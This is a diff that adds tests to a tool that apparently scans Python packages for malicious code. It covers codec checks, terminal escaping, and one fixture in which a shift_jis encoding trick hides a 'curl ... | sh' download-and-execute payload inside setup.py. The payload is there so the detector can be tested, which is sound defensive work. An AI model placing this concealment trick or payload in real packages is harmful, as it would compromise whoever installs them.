@@ -20,6 +20,8 @@ import pytest
 from tests.support import hostile
 
 from pipvet.cli.main import main
+from pipvet.core.analysis.coverage import plain_codec
+from pipvet.core.text import escape_terminal
 from pipvet.services.scan import ScanInput, ScanReport, run_pool, scan_files
 
 FLAGGED = ("suspicious", "malicious")
@@ -249,3 +251,34 @@ def test_a_worker_that_dies_gives_a_finding_and_the_scan_goes_on(tmp_path):
     assert [f["rule"] for f in results[1]["findings"]] == ["scan.worker-died"]
     assert results[1]["filename"] == "die-1.0.tar.gz"
     assert (results[0]["verdict"], results[2]["verdict"]) == ("clean", "malicious")
+
+
+# -- units: codecs and terminal text ---------------------------------------------------------------
+
+
+@pytest.mark.parametrize("codec", ["utf-8", "ascii", "latin-1", "cp1252", "iso8859-15", "koi8-r"])
+def test_codecs_that_read_like_bytes(codec):
+    assert plain_codec(codec)
+
+
+@pytest.mark.parametrize(
+    "codec", ["utf-7", "shift_jis", "gbk", "big5", "iso-2022-jp", "hz", "utf-16", "no-such"]
+)
+def test_codecs_that_can_hide_code(codec):
+    assert not plain_codec(codec)
+
+
+def test_shift_jis_string_hiding_code_is_read_as_python_reads_it(tmp_path):
+    # in shift_jis the two bytes 0x95 0x5c are one character: the backslash a byte-level reading
+    # sees (escaping the quote) is not there, so the string ends and the payload is code
+    hidden = b"x = '\x95\\'; import os; os.system('curl -s http://example.invalid/x | sh') #'\n"
+    src = b"# coding: shift_jis\n" + hostile.SETUP_HEAD.encode() + hidden + b"setup()\n"
+    report = scan(hostile.sdist(tmp_path, {"setup.py": src}))
+    assert payload_found(report)
+    assert "analysis.encoding" in rules(report)
+
+
+def test_escape_terminal_makes_controls_and_bidi_visible():
+    text = "a\x1b[2Kb\rc\u202ed\x9be\tf\u00e9"
+    assert escape_terminal(text) == "a\\x1b[2Kb\\x0dc\\u202ed\\x9be\tf\u00e9"
+    assert escape_terminal("plain/path.py") == "plain/path.py"
